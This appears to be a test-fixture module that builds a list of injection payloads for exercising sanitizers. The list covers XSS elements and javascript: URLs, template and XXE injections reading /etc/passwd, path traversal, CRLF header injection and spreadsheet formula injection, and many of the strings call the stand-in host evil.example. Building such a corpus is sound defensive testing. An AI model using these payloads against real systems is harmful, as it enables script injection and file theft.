/** Strings that mean harm in one notation or another: what runs, what asks for something elsewhere, what ends the notation it stands in. */

/** What the browser would run: each marks the page, asks for an address and opens a dialog. */
const RUN = "alert(1)||(window.harmed=1)||fetch('//evil.example/x')";

const ELEMENTS = [
  `<script>${RUN}</script>`,
  '<script src=//evil.example/x.js></script>',
  `<img src=x onerror="${RUN}">`,
  '<img src=//evil.example/pixel.gif>',
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a><animate onbegin="${RUN}"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  '<iframe src="//evil.example/"></iframe>',
  `<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>`,
  '<object data=//evil.example/x></object><embed src=//evil.example/x>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<form action=//evil.example/><input autofocus onfocus="window.harmed=1"><button>x</form>',
  `<details open ontoggle="${RUN}">x</details>`,
  `<body onload="${RUN}">`,
  '<style>@import "//evil.example/x.css";</style>',
  '<video><source onerror="window.harmed=1"></video>',
  '<noscript><p title="</noscript><img src=x onerror=window.harmed=1>">',
  `<a href="javascript:${RUN}">x</a>`,
  '<!--><script>window.harmed=1</script-->',
  '<![CDATA[<script>window.harmed=1</script>]]>',
  '<?xml-stylesheet href="//evil.example/x.xsl"?>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
];

/** What ends the text it stands in, before an element. */
const ENDS = [
  ...['"', "'", '">', "'>", '`', ']]>', '-->', '--!>', '/>', '*/', '</title>', '</style>'],
  ...['</textarea>', '</script>', '</SCRIPT >', '</xmp>', '\\"', '&quot;>', '\u0000', '\n\n', '}'],
];

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  'javascript&colon;alert(1)',
  'data:text/html,<script>parent.harmed=1</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  '//evil.example/',
  'http:evil.example',
  '\\\\evil.example\\share',
  'blob:https://evil.example/x',
  '../../../../etc/passwd',
];

const OTHERS = [
  '{{constructor.constructor("window.harmed=1")()}}',
  ['$', '{alert(1)}'].join(''),
  '<%= 7*7 %>',
  '#{7*7}',
  '#eval(read("/etc/passwd"))',
  '#import "@preview/x:0.1.0": *',
  '\\input{/etc/passwd}',
  '$ #sys.inputs $',
  '(S) Tj ET /OpenAction << /S /JavaScript /JS (app.alert(1)) >>',
  'expression(alert(1))',
  'url(//evil.example/x.png)',
  '::error::x\n##[group]y',
  'BEGIN:VEVENT\r\nATTACH:file:///etc/passwd',
  '\u202Egpj.exe\u202C',
  '__proto__',
  'constructor',
  '!!js/function "function(){harmed=1}"',
  '=HYPERLINK("//evil.example","x")',
  '\ud800',
  '%00%0d%0aSet-Cookie:x=1',
];

/**
 * All strings, each once and always in this order.
 *
 * **Shapes**: `short` gives every 29th, so that each group is met.
 */
export function attackStrings(short = false) {
  const ended = ENDS.flatMap((end, index) => [
    `${end}${ELEMENTS[index % ELEMENTS.length]}`,
    `${end} onmouseover=window.harmed=1 autofocus onfocus=window.harmed=1 x=`,
    `${end}<img src=x onerror=window.harmed=1>`,
  ]);
  const encoded = ELEMENTS.slice(0, 6).flatMap((text) => [
    text.replaceAll('<', '&lt;'),
    text.replaceAll('<', '\\u003c'),
    text.replaceAll('<', '%3C'),
    text.replaceAll('<', '＜'),
  ]);
  const all = [...new Set([...ELEMENTS, ...ended, ...encoded, ...ADDRESSES, ...OTHERS])];
  return short ? all.filter((_, index) => index % 29 === 0) : all;
}
